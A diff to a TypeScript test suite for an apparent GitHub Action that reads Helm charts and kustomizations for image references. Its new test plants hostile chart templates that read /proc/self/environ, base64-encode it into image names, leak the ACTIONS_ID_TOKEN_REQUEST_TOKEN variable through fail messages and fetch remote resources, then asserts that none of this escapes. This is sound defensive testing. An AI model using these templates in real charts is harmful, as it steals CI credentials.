@@ -16,7 +16,9 @@ import type { DeployableInputs, Deployables } from '../../src/core/deployables/m
 import { readDeployables } from '../../src/core/deployables/read.js';
 import { createFiles } from '../../src/host/files.js';
 import { createRenderer } from '../../src/host/renderer.js';
+import { formsOf } from '../e2e/audit-ground.js';
 import { openGround } from '../e2e/in-process.js';
+import { openScene, scenario } from '../e2e/scene.js';
 import { suiteUnless } from '../skip.js';
 import { kubectlOlderThan } from './clients.js';
 import { findHelm } from './helm.js';
@@ -97,7 +99,7 @@ suiteUnless(helmAbsent, 'charts, by a real helm', () => {
       ),
       'prod.yaml': 'image:\n\n  tag: "2"\n',
     });
-    const { images, unread } = await read({ charts: ['chart'], values: ['prod.yaml'] });
+    const { images, unread } = await read({ charts: ['./chart/'], values: ['prod.yaml'] });
     expect(unread).toEqual([]);
     expect(images.map(({ reference, uses }) => [reference.name, uses[0]?.place])).toEqual([
       ['contoso.azurecr.io/shop/fixed:1', { file: 'chart/templates/fixed.yaml', line: 7 }],
@@ -139,11 +141,16 @@ suiteUnless(helmAbsent, 'charts, by a real helm', () => {
       'plain/templates/a.yaml': POD('a:n{{ getHostByName "localhost" | replace "." "-" | replace ":" "-" }}'),
     });
     const found = await read({
-      charts: ['chart', 'plain', `${url}/chart.tgz`, `oci://127.0.0.1:${port}/chart:1`],
+      charts: [
+        'chart',
+        'plain',
+        `${url.replace('//', '//me:a-password@')}/chart.tgz`,
+        `oci://127.0.0.1:${port}/chart:1`,
+      ],
     });
     expect(found.unread.map(({ place, kind }) => [place.file, kind])).toEqual([
       ['chart', 'render'],
-      [`${url}/chart.tgz`, 'remote'],
+      [`${url.replace('//', '//***@')}/chart.tgz`, 'remote'],
       [`oci://127.0.0.1:${port}/chart:1`, 'remote'],
     ]);
     expect(found.images.map(({ reference }) => reference.name)).toEqual(['docker.io/library/a:n']);
@@ -180,6 +187,69 @@ suiteUnless(helmAbsent, 'charts, by a real helm', () => {
     expect(found.unread).toMatchObject([{ kind: 'render', place: { file: 'c' } }]);
     expect(found.unread[0]?.why).toMatch(words);
     expect(found.images).toHaveLength(1);
+  });
+});
+
+suiteUnless(helmAbsent ?? kubectlAbsent, 'a thief, by the shipped action with real helm and kubectl', () => {
+  it('gets none of the tokens of the job out of it, nor anywhere', async () => {
+    const scene = await openScene(
+      scenario({ assigned: [{ principal: 'kubelet of shop', role: 'AcrPull', scope: 'registry:contoso' }] }),
+    );
+    try {
+      const url = `http://127.0.0.1:${port}`;
+      const variable = 'ACTIONS_ID_TOKEN_REQUEST_TOKEN';
+      await put({
+        'chart/Chart.yaml': CHART,
+        // What it can read of the job would be in the name of an image, in base64 and as it is, and asked of a server.
+        'chart/templates/a.yaml': POD(
+          `contoso.azurecr.io/x{{ .Files.Get "/proc/self/environ" | b64enc | lower }}{{ .Files.Get "../../environ" }}{{ getHostByName "127.0.0.1" | len }}:1`,
+        ),
+        'fails/Chart.yaml': CHART,
+        'fails/templates/a.yaml': `{{ fail (print "environment: " (env "${variable}")) }}`,
+        'fetches/Chart.yaml': `${CHART}dependencies:\n  - { name: other, version: 1.0.0, repository: "${url}" }\n`,
+        'fetches/templates/a.yaml': POD('a:1'),
+        'k/kustomization.yaml': `resources: [a.yaml]\nconfigMapGenerator:\n  - { name: stolen, envs: [tokens.env], files: [/proc/self/environ] }\n`,
+        'k/tokens.env': `${variable}\n`,
+        'k/a.yaml': POD('a:1'),
+        'j/kustomization.yaml': `resources: [a.yaml, "${url}/base.yaml"]\n`,
+        'j/a.yaml': POD('a:1'),
+        'good.yaml': POD('contoso.azurecr.io/shop/web:1.4'),
+      });
+      const named = (...names: string[]): string => names.map((name) => join(folder, name)).join('\n');
+      const run = await scene.run(
+        {
+          mode: 'check',
+          image: '',
+          manifests: named('good.yaml'),
+          'helm-chart': named('chart', 'fails', 'fetches'),
+          kustomization: named('k', 'j'),
+        },
+        { machine: { ...scene.simulator.environment(), PATH: path } },
+      );
+      // Each was rendered, or tried to be; nothing that was read is in a name.
+      expect(run.outputs).toMatchObject({ result: 'failed', cause: 'tag-not-found' });
+      expect(run.report?.connections[0]?.images?.map(({ image }) => image).sort()).toEqual([
+        'contoso.azurecr.io/shop/web:1.4',
+        'contoso.azurecr.io/x0:1',
+      ]);
+      expect(run.report?.deployed?.unread.map(({ file }) => file.replace(`${folder}/`, ''))).toEqual([
+        'fails',
+        'fetches',
+        'k',
+        'j',
+      ]);
+      expect(run.report?.deployed?.otherImages).toEqual([]);
+      expect(reached).toEqual([]);
+      const written = [run.shown, run.stderr, run.summary, JSON.stringify([run.report, run.outputs])].join(
+        '\n',
+      );
+      for (const form of formsOf(scene.simulator.github.requestToken)) {
+        expect(written).not.toContain(form);
+        expect(written.toLowerCase()).not.toContain(form.toLowerCase());
+      }
+    } finally {
+      await scene.end();
+    }
   });
 });
 
